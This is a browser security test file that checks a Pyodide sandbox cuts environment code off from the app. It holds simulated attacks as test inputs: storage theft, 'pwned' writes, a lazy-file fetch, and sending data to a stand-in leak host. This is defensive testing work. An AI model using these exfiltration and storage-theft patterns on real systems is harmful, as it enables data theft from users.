// Proves in real Chromium that environment code cannot reach the app: not from Python through the
// real sandbox runtime, and not even from JavaScript running inside the sandbox worker or frame.
// The recorders, storage checks, BroadcastChannel and navigation checks each have a control run
// where the same attempt does succeed, so every "nothing happened" assertion can fail.
// Findings and residuals are printed (search the output for FINDING and RESIDUAL).
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRig, type BrowserRig } from './harness.ts';
import { LEAK_DOMAIN, startLeakRecorder, type LeakRecorder } from './leak-recorder.ts';
import { CUTOFF_IMPORTS, CUTOFF_ROUTES, JS_CUTOFF, NETWORK_ATTEMPTS, STORAGE_ATTEMPTS } from './sandbox-attacks.ts';
import type { AppStorageSnapshot } from './pages/app-storage-markers.ts';
import type { AttackReport, AttackRequest } from './pages/sandbox-attack-runs.ts';
import type { SpadeTestApi } from './pages/sandbox-page.ts';

const PAGE = '/tests/browser/pages/sandbox.html';
const CONTROL_PAGE = '/tests/browser/pages/no-csp.html';
const MARKER = `spade-marker-${randomUUID()}`;
const CHANNEL = 'spade-lab';

let rig: BrowserRig;
let leak: LeakRecorder;
let page: Page;
/** Requests that reached the app's own (Vite) server on a leak path. */
const appLeaks: string[] = [];
/** TCP connections the leak server had after the set-up controls; any later one is a sandbox's. */
let controlConnections = 0;
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Every recorded request except the controls' (whose tags start with "control-"). */
function leaks(): string[] {
  return [...leak.requests.map((r) => `leak server: ${r}`), ...appLeaks.map((r) => `app server: ${r}`)].filter(
    (r) => !r.includes('/control-'),
  );
}

function leakByName(): string {
  return `http://${LEAK_DOMAIN}:${new URL(leak.origin).port}`;
}

function attackRequest(tag: string, extra: Partial<AttackRequest> = {}): AttackRequest {
  return {
    tag,
    leakOrigin: leak.origin,
    leakByName: leakByName(),
    channelName: CHANNEL,
    attemptTimeoutMs: 3000,
    ...extra,
  };
}

const readStorage = (): Promise<AppStorageSnapshot> => page.evaluate(() => window.spadeTest.readAppStorage());

function show(label: string, value: unknown): void {
  console.log(`${label}:\n${JSON.stringify(value, null, 2)}`);
}

beforeAll(async () => {
  // Its own server: the test watches that server's requests for leaks.
  rig = await startRig([`--host-resolver-rules=MAP *.${LEAK_DOMAIN} 127.0.0.1`], { ownServer: true });
  leak = await startLeakRecorder();
  rig.server?.httpServer?.on('request', (req: IncomingMessage) => {
    if (req.url && /leak/i.test(req.url)) appLeaks.push(`${req.method} ${req.url}`);
  });
  page = await rig.open(PAGE);
  await page.waitForFunction(() => window.spadeTest !== undefined, undefined, { timeout: 60_000 });
  await page.evaluate((marker) => window.spadeTest.seedAppStorage(marker), MARKER);
});

afterAll(async () => {
  await page?.evaluate(() => window.spadeTest.closeRuntime()).catch(() => undefined);
  await rig?.close();
  await leak?.close();
});

describe('set-up and controls', () => {
  it('the app origin holds the markers and both recorders hear requests the page makes itself', async () => {
    const storage = await readStorage();
    expect(storage.idb.marker).toBe(MARKER);
    expect(storage.cache.marker).toBe(MARKER);
    expect(storage.localStorage.marker).toBe(MARKER);
    expect(storage.opfs.marker).toBe(MARKER);
    await page.evaluate(async (origin) => {
      await fetch(`${origin}/leak/control-page/fetch`, { mode: 'no-cors' });
      await fetch('/__leak/control-page/fetch');
    }, leak.origin);
    expect(leak.requests).toContain('GET /leak/control-page/fetch');
    expect(appLeaks).toContain('GET /__leak/control-page/fetch');
    expect(leaks()).toEqual([]);
    expect(leak.tcpConnections).toBeGreaterThan(0);
    controlConnections = leak.tcpConnections;
  });
});

// --- a. Python level, through the real runtime ----------------------------------------------------

type PythonOutcome = { ok: true; value: string } | { ok: false; error: string };

describe('a. Python level: environment code in the real browser runtime is cut off from JavaScript', () => {
  // The same fixture's control run (an unsealed Pyodide, where these routes work) is in
  // tests/adapters/sandbox/node-sandbox-cutoff.test.ts; the seal is the same code in both sandboxes.
  let outcomes: Record<string, PythonOutcome> & {
    reachability?: { visited: number; exhausted: boolean; found: string[] };
  };
  let lazyFile: { result: Awaited<ReturnType<SpadeTestApi['runEnv']>>; restartsBefore: number; restartsAfter: number };

  beforeAll(async () => {
    const startMs = await page.evaluate(() => window.spadeTest.startRuntime({ spares: 1 }));
    console.log(`browser sandbox started in ${startMs} ms`);
    const lazyCode = [
      'class LazyFileEnv:',
      '    def reset(self, seed=None):',
      '        import pyodide_js',
      `        pyodide_js.FS.createLazyFile("/tmp", "leak.txt", "${leak.origin}/leak/python/lazyfile", True, False)`,
      '        with open("/tmp/leak.txt") as handle:',
      '            return handle.read(), {}',
      '    def step(self, action):',
      '        return "x", 0.0, True, False, {}',
    ].join('\n');
    const restartsBefore = await page.evaluate(() => window.spadeTest.restarts());
    const lazyResult = await page.evaluate((source) => window.spadeTest.runEnv(source), lazyCode);
    lazyFile = {
      result: lazyResult,
      restartsBefore,
      restartsAfter: await page.evaluate(() => window.spadeTest.restarts()),
    };
    const result = await page.evaluate(
      (source) => window.spadeTest.runEnv(source, { resetTimeoutMs: 60_000 }),
      JS_CUTOFF,
    );
    if (!result.ok) throw new Error(`cut-off environment did not run: ${result.code} ${result.message}`);
    console.log(`cut-off environment ran in ${result.ms} ms`);
    outcomes = JSON.parse(result.observation.slice('CUTOFF '.length));
    show('Python routes to JavaScript', outcomes);
  });

  it.each(CUTOFF_IMPORTS)('import %s fails, also with the import finders reset to the standard ones', (name) => {
    expect(outcomes[`import ${name}`], name).toMatchObject({
      ok: false,
      error: expect.stringMatching(/^(ModuleNotFoundError|ImportError)/),
    });
    expect(outcomes[`import ${name} with only the standard finders`]?.ok, name).toBe(false);
  });

  it.each(CUTOFF_ROUTES)('%s fails', (name) => {
    expect(outcomes[name]?.ok, name).toBe(false);
  });

  it('nothing reachable without gc is a JS proxy or a JS-bridge function', () => {
    expect(outcomes.reachability?.exhausted).toBe(true);
    expect(outcomes.reachability?.visited).toBeGreaterThan(10_000);
    expect(outcomes.reachability?.found).toEqual([]);
  });

  it('FS.createLazyFile (a synchronous XHR from the worker) is out of reach: pyodide_js does not import', () => {
    console.log(`FS.createLazyFile attempt: ${JSON.stringify(lazyFile.result)}`);
    expect(lazyFile.result).toMatchObject({ ok: false, code: 'reset_exception' });
    expect((lazyFile.result as { message: string }).message).toMatch(/ModuleNotFoundError: .*pyodide_js/);
    expect(lazyFile.restartsAfter).toBe(lazyFile.restartsBefore);
  });

  it('no Python attempt reached the network, and the next environments keep their own verdicts', async () => {
    await sleep(1500);
    expect(leaks()).toEqual([]);
    expect(leak.tcpConnections).toBe(controlConnections);
    const again = await page.evaluate(() =>
      window.spadeTest.runEnv(
        'class OkEnv:\n    def reset(self, seed=None):\n        return "fine", {}\n    def step(self, action):\n        return "x", 0.0, True, False, {}\n',
      ),
    );
    expect(again).toMatchObject({ ok: true, observation: 'fine' });
    const broken = await page.evaluate(() =>
      window.spadeTest.validate(
        'class NanEnv:\n    def reset(self, seed=None):\n        return "go", {}\n    def step(self, action):\n        return "x", float("nan"), False, False, {}\n',
      ),
    );
    expect(broken).toMatchObject({ ok: false, code: 'reward_not_finite' });
  });

  it('look-alike types and lying lengths are refused with stable codes', async () => {
    const fakeBool = readFileSync(new URL('../fixtures/envs/hostile/forge/fake_bool.py', import.meta.url), 'utf8');
    const lyingLen = readFileSync(new URL('../fixtures/envs/hostile/forge/lying_len.py', import.meta.url), 'utf8');
    expect(await page.evaluate((source) => window.spadeTest.validate(source), fakeBool)).toMatchObject({
      ok: false,
      code: 'step_bad_flags',
    });
    const long = await page.evaluate((source) => window.spadeTest.runEnv(source), lyingLen);
    expect(long).toMatchObject({ ok: false, code: 'output_too_large' });
    expect((long as { message: string }).message).toContain('Saw 1000000 characters');
    await page.evaluate(() => window.spadeTest.closeRuntime());
  });
});

// --- b. JavaScript level, inside the sandbox worker and frame -------------------------------------

describe('b. JavaScript level: an attacker already running JS as the sandbox worker', () => {
  let report: AttackReport;
  const deathText = `attacker-controlled death report ${randomUUID()}`;

  beforeAll(async () => {
    report = await page.evaluate(
      (request) => window.spadeTest.runWorkerAttack('sandbox', request),
      attackRequest('sandbox', { throwAtEnd: deathText }),
    );
    await sleep(1000);
    show('JS attack from the sandbox worker', report);
  });

  it("runs in the sandbox frame's opaque origin, was handed exactly one port and no page objects", () => {
    expect(report.results['self.origin']).toEqual({ ok: true, value: 'null' });
    expect(report.results['location.href']).toEqual({ ok: true, value: expect.stringMatching(/^blob:null\//) });
    expect(report.results['window/parent/document reachable']).toEqual({
      ok: true,
      value: { window: 'undefined', parent: 'undefined', top: 'undefined', opener: 'undefined', document: 'undefined' },
    });
    // The frame's compiled Pyodide module is code only: each worker instantiates its own memory.
    expect(report.boot).toEqual({ keys: ['files', 'port', 'wasmModule'], transferredPorts: 1, fileNames: [] });
    // No WebRTC in a worker: the one network path CSP does not govern is not there.
    // (RTCDataChannel exists in workers only to receive channels transferred from a window.)
    expect(report.results['WebRTC in this scope']).toEqual({
      ok: true,
      value: {
        RTCPeerConnection: 'undefined',
        RTCDataChannel: 'function',
        newRTCDataChannel: expect.stringMatching(/^TypeError: .*Illegal constructor/),
      },
    });
  });

  it("sees nothing of the app's IndexedDB, Cache Storage, localStorage or OPFS", () => {
    expect(report.stolen).toBe('nothing');
    expect(JSON.stringify(report)).not.toContain(MARKER);
    // Stricter than "saw nothing": storage of an opaque origin is refused outright, reads and
    // writes alike (IndexedDB: SecurityError; caches, localStorage, OPFS: not even exposed).
    for (const name of STORAGE_ATTEMPTS) expect(report.results[name]?.ok, name).toBe(false);
    expect(report.results['indexedDB.open(app db) read marker']).toEqual({
      ok: false,
      error: expect.stringMatching(/^SecurityError/),
    });
  });

  it('cannot reach the network in any way (each attempt fails; no request, TCP connection or name look-up arrived)', async () => {
    for (const name of NETWORK_ATTEMPTS) {
      expect(report.results[name]?.ok, name).toBe(false);
    }
    await sleep(500);
    expect(leaks()).toEqual([]);
    expect(leak.tcpConnections).toBe(controlConnections);
  });

  it('d. cannot talk to the page over BroadcastChannel, and its postMessage reaches only the frame', () => {
    // The page's channel does hear a same-origin sender (control) ...
    expect(report.page.broadcastReceived).toContainEqual({ fromPageControl: true });
    // ... but nothing the sandbox posted on the same channel name, nor does the sandbox hear the page.
    expect(report.page.broadcastReceived.filter((m) => JSON.stringify(m).includes('fromAttacker'))).toEqual([]);
    expect(report.broadcastReceivedByAttacker).toEqual([]);
    expect(report.results['BroadcastChannel post to page']?.ok).toBe(true);
    // self.postMessage goes to the frame's Worker object, which forwards nothing.
    expect(report.page.windowMessages.filter((m) => JSON.stringify(m).includes('fromAttacker'))).toEqual([]);
  });

  it("the only other path to the page is the frame's death report, which carries attacker-chosen text", () => {
    // Documented behaviour, not a leak of app data: it comes on the frame's private control port
    // (nothing on the page's window), the host truncates it to 500 characters and only shows it
    // as the reason that one sandbox died. Before it, the frame's own script reports once what its
    // workers start from (a fixed source word and the frame's reason), with no sandbox text in it.
    expect(report.page.windowMessages).toEqual([]);
    const [startedFrom, ...rest] = report.page.frameMessages;
    expect(Object.keys(startedFrom as object).sort()).toEqual(['spadeSnapshotSource', 'why']);
    expect(['build', 'page', 'none']).toContain((startedFrom as { spadeSnapshotSource: string }).spadeSnapshotSource);
    expect(JSON.stringify(startedFrom)).not.toContain(deathText);
    expect(rest).toEqual([{ spadeSandboxDied: expect.stringContaining(deathText), id: 0 }]);
  });
});

describe("b. JavaScript level: an attacker running as the sandbox frame's own script (same html, same CSP)", () => {
  let report: AttackReport;

  beforeAll(async () => {
    report = await page.evaluate((request) => window.spadeTest.runFrameAttack(request), attackRequest('frame'));
    await sleep(1500);
    show('JS attack from the sandbox frame script', report);
  });

  it('has an opaque origin and no access to storage, cookies or the parent page', () => {
    expect(report.results['self.origin']).toEqual({ ok: true, value: 'null' });
    for (const name of [
      'localStorage',
      'localStorage write pwned',
      'sessionStorage',
      'document.cookie read',
      'document.cookie write',
      'indexedDB.open(app db)',
      'caches.keys()',
      'OPFS navigator.storage.getDirectory()',
      'parent.document',
      'parent.localStorage',
      'parent.spadeTest',
      'top.location.href read',
    ]) {
      expect(report.results[name]?.ok, name).toBe(false);
    }
    expect(JSON.stringify(report)).not.toContain(MARKER);
  });

  it('cannot send anything out: fetch, beacon, XHR, sockets, elements, popups, top navigation, forms', async () => {
    for (const name of [
      'fetch(leak server)',
      'fetch(app origin)',
      'XMLHttpRequest',
      'WebSocket',
      'EventSource',
      '<img src=leak>',
      '<script src=leak>',
      '<link rel=stylesheet href=leak>',
      '<link rel=prefetch href=leak>',
      'window.open(leak)',
      'top.location = leak',
    ]) {
      expect(report.results[name]?.ok, name).toBe(false);
    }
    // sendBeacon only says it queued the beacon; the frame CSP then refuses it.
    expect(report.violations.some((v) => v.startsWith('connect-src') && v.includes('/frame-beacon'))).toBe(true);
    await sleep(1000);
    expect(leaks()).toEqual([]);
  });

  it('residuals, only for script in the frame itself (environments never run there): WebRTC and navigation pre-connects', () => {
    // Printed, not asserted: these are browser behaviours outside CSP. Environment code runs in the
    // worker, which has no WebRTC and no DOM (asserted above), and the frame runs only its fixed script.
    console.log(
      `RESIDUAL frame script: RTCPeerConnection ${JSON.stringify(report.results['RTCPeerConnection STUN to leak host'])}; ` +
        `UDP datagrams at the leak host: ${JSON.stringify(leak.udpPackets)}`,
    );
    console.log(
      `RESIDUAL frame script: TCP connections to the leak host after the frame attack: ${leak.tcpConnections - controlConnections} ` +
        `(a CSP-blocked nested <iframe src> still pre-connects; no HTTP request was sent)`,
    );
    // What is asserted: both residuals were measured in this run.
    expect(report.results['RTCPeerConnection STUN to leak host']).toBeDefined();
    expect(leak.tcpConnections).toBeGreaterThanOrEqual(controlConnections);
  });
});

describe('after the attacks', () => {
  it("the app's IndexedDB, Cache Storage, localStorage and OPFS markers are intact and nothing was written", async () => {
    const storage = await readStorage();
    expect(storage.idb).toEqual({ marker: MARKER, pwned: null, stores: ['kv'] });
    expect(storage.cache.marker).toBe(MARKER);
    expect(storage.cache.pwned).toBeNull();
    expect(storage.localStorage).toEqual({ marker: MARKER, pwned: null });
    expect(storage.opfs).toEqual({ marker: MARKER, pwned: null, error: null });
    expect(leaks()).toEqual([]);
  });

  it('control: the same attacker as a page-origin worker does steal, write and send (so the checks above can fail)', async () => {
    const report = await page.evaluate(
      (request) => window.spadeTest.runWorkerAttack('page-worker', request),
      attackRequest('control-worker'),
    );
    await sleep(1000);
    show(
      'control: JS attack from a page-origin worker (outcomes only)',
      Object.fromEntries(Object.entries(report.results).map(([k, v]) => [k, v.ok])),
    );
    expect(report.results['self.origin']).toEqual({ ok: true, value: new URL(rig.baseUrl).origin });
    expect(report.stolen).toContain(MARKER);
    expect(report.results['fetch(leak server, absolute)']?.ok).toBe(true);
    expect(
      leak.requests.some((r) => r.includes('/leak/control-worker/fetch?data=' + encodeURIComponent(report.stolen))),
    ).toBe(true);
    expect(appLeaks.some((r) => r.includes('/__leak/control-worker/fetch-app'))).toBe(true);
    expect(report.page.broadcastReceived).toContainEqual({ fromAttacker: 'control-worker', stolen: report.stolen });
    expect(report.broadcastReceivedByAttacker).toContainEqual({ fromPage: 'ping' });
    const storage = await readStorage();
    expect(storage.idb.pwned).toBe('pwned by attacker');
    expect(storage.cache.pwned).toBe('pwned by attacker');
    expect(storage.opfs.pwned).toBe('pwned by attacker');
  });
});

// --- c. The navigation hole ------------------------------------------------------------------------

describe('c. a sandboxed srcdoc frame navigating itself to a leak URL', () => {
  it("loads and runs under the app's page CSP, but its navigation to the leak URL sends no request", async () => {
    const port = new URL(leak.origin).port;
    const connections: string[] = [];
    for (const method of ['location', 'anchor', 'meta-refresh'] as const) {
      const before = leak.tcpConnections;
      // A fresh host name per method, so a pre-connect cannot hide behind an idle pooled socket.
      const url = `http://${method}-data-x.${LEAK_DOMAIN}:${port}/leak/navigation-${method}?data=x`;
      const result = await page.evaluate(([target, how]) => window.spadeTest.navigationProbe(target, how), [
        url,
        method,
      ] as const);
      console.log(`navigation probe (${method}) under the app CSP: ${JSON.stringify(result)}`);
      expect(result.loaded, method).toBe(true);
      expect(result.frameOrigin, method).toBe('null');
      connections.push(`${method}: ${leak.tcpConnections - before}`);
    }
    expect(leaks()).toEqual([]);
    console.log(
      `RESIDUAL navigation under frame-src 'none': no HTTP request, but TCP connections (after resolving the host name) per method: ${connections.join(', ')}`,
    );
  });

  it("control: on a page without the app's CSP the same frame does reach the leak server", async () => {
    const control = await rig.open(CONTROL_PAGE);
    try {
      await control.waitForFunction(() => window.spadeControl !== undefined);
      const url = `http://control-data-x.${LEAK_DOMAIN}:${new URL(leak.origin).port}/leak/control-navigation?data=x`;
      const result = await control.evaluate((target) => window.spadeControl.navigationProbe(target, 'location'), url);
      expect(result.loaded).toBe(true);
      expect(leak.requests).toContain('GET /leak/control-navigation?data=x');
    } finally {
      await control.context().close();
    }
  });
});

describe('the page itself', () => {
  it('recorded no leak over the whole run', () => {
    expect(leaks()).toEqual([]);
  });
});
